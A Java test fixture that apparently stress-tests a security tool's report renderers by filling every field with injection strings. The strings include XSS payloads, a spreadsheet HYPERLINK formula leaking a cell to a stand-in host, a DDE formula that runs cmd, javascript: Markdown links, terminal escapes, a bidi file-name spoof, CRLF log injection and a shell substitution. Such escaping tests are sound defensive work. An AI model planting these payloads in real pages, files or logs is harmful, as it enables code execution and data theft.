package io.mcpsf.report;

import io.mcpsf.json.EvidenceFormat;
import io.mcpsf.json.Json;
import io.mcpsf.model.Axis;
import io.mcpsf.model.CaseFile;
import io.mcpsf.model.Confidence;
import io.mcpsf.model.Coverage;
import io.mcpsf.model.Evidence;
import io.mcpsf.model.Finding;
import io.mcpsf.model.Isolation;
import io.mcpsf.model.Judgement;
import io.mcpsf.model.Observation;
import io.mcpsf.model.Phase;
import io.mcpsf.model.PhaseResult;
import io.mcpsf.model.Proof;
import io.mcpsf.model.Seen;
import io.mcpsf.model.Sense;
import io.mcpsf.model.SenseHealth;
import io.mcpsf.model.Severity;
import io.mcpsf.model.ToolCoverage;
import io.mcpsf.model.Verdict;

import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

import java.lang.reflect.RecordComponent;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Map;

/**
 * A case in which every string of every kind of observation attacks whoever reads it. New kinds
 * join by themselves.
 */
public final class Hostile {

    /** What a page, a terminal, a Markdown renderer, a spreadsheet or a log would obey. */
    public static final List<String> ATTACKS =
            List.of(
                    "</script><script>window.pwned=1</script><img src=x"
                            + " onerror=\"window.pwned=1\">",
                    "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")",
                    "[click](javascript:window.pwned=1) ![i](http://evil.invalid/i.png)"
                            + " <http://evil.invalid>",
                    "\u001b[31mred\u001b[0m\u001b]0;title\u0007 \u202egnp.exe\u2066 z\u200bw"
                            + " \u0000",
                    "@SUM(1+1)*cmd|' /C calc'!A0",
                    "+1|x\r\nInjected: header|CEF:0|a=b\\",
                    "-->]]><!--{{script}}{{main}} \u2028\u2029\" onmouseover=\"window.pwned=1' `"
                            + " $(id)",
                    "http://evil.invalid/<svg/onload=window.pwned=1>?q=\"'&<>");

    private Hostile() {}

    public static Report report() {
        List<Seen> seen = observations();
        return Report.of(
                new Evidence(file(), seen, coverage()),
                new Judgement(
                        Verdict.MALICIOUS,
                        attack(0) + attack(3),
                        new Judgement.Risk(
                                90,
                                90,
                                10,
                                50,
                                List.of(new Judgement.Item(90, attack(2), List.of("bait-left-0")))),
                        findings(seen),
                        List.of(new Judgement.NotEvaluated("bait-read", attack(0))),
                        List.of(attack(0), attack(3)),
                        List.of(attack(2), attack(6))),
                Cases.RULES);
    }

    public static String attack(int number) {
        return ATTACKS.get(Math.floorMod(number, ATTACKS.size()));
    }

    /** One of every kind for every attack. */
    private static List<Seen> observations() {
        var seen = new ArrayList<Seen>();
        List<Class<? extends Observation>> kinds =
                Observation.kinds().stream()
                        .sorted(Comparator.comparing(Class::getSimpleName))
                        .toList();
        long seq = 1;
        for (int round = 0; round < ATTACKS.size(); round++) {
            for (Class<?> kind : kinds) {
                ObjectNode node =
                        Json.object()
                                .put("seq", seq)
                                .put("micros", seq * 1000)
                                .put("phase", round == 0 ? "START" : "CALL")
                                .put("toolCall", round)
                                .put("process", 1 + round)
                                .put("record", kind.getSimpleName());
                int number = round;
                for (RecordComponent component : kind.getRecordComponents()) {
                    fill(node, component, number++, round);
                }
                seen.add(EvidenceFormat.seen(node));
                seq++;
            }
        }
        return seen;
    }

    private static void fill(ObjectNode node, RecordComponent component, int number, int round) {
        String name = component.getName();
        Class<?> type = component.getType();
        if (node.has(name)) {
            return;
        }
        if (type == String.class) {
            node.put(name, attack(number));
        } else if (type == int.class || type == long.class) {
            node.put(name, name.equals("parent") ? round : 1 + round);
        } else if (type == double.class) {
            node.put(name, 0.5);
        } else if (type == boolean.class) {
            node.put(name, true);
        } else if (type.isEnum()) {
            Object[] constants = type.getEnumConstants();
            node.put(name, ((Enum<?>) constants[round % constants.length]).name());
        } else if (List.class.isAssignableFrom(type)
                && component.getGenericType().getTypeName().contains("String")) {
            ArrayNode list = node.putArray(name);
            ATTACKS.forEach(list::add);
        }
    }

    private static List<Finding> findings(List<Seen> seen) {
        var findings = new ArrayList<Finding>();
        for (int i = 0; i < 2 * ATTACKS.size(); i++) {
            String rule = i % 2 == 0 ? "bait-left" : "no-longer-in-the-books";
            List<Long> proof = seen.stream().map(Seen::seq).skip(20L * i).limit(20).toList();
            if (!proof.isEmpty()) {
                findings.add(
                        new Finding(
                                rule + "-" + i,
                                rule,
                                Severity.values()[i % Severity.values().length],
                                Confidence.PROVEN,
                                Axis.MALICE,
                                Proof.values()[i % Proof.values().length],
                                attack(i),
                                Phase.CALL,
                                i % 3 == 0 ? "" : attack(i + 1),
                                proof));
            }
        }
        return findings;
    }

    private static CaseFile file() {
        return new CaseFile(
                "20260101-000000-hostile-0000",
                new CaseFile.Subject("folder", attack(0), attack(3), "0".repeat(64), attack(2)),
                Instant.parse("2026-01-01T00:00:00Z"),
                "test",
                new CaseFile.Settings("safe", 7, List.of("node", attack(6), attack(5)), 0.5));
    }

    private static Coverage coverage() {
        return new Coverage(
                Map.of(
                        Phase.START,
                        new PhaseResult(PhaseResult.Status.FAILED, 5, attack(0)),
                        Phase.CALL,
                        new PhaseResult(PhaseResult.Status.DONE, 5, "")),
                Map.of(Sense.FILES, SenseHealth.lossy(5, 1, attack(2))),
                new ToolCoverage(2, 2, 1),
                new Isolation(attack(3), attack(4), List.of(attack(5)), List.of(attack(6))));
    }
}
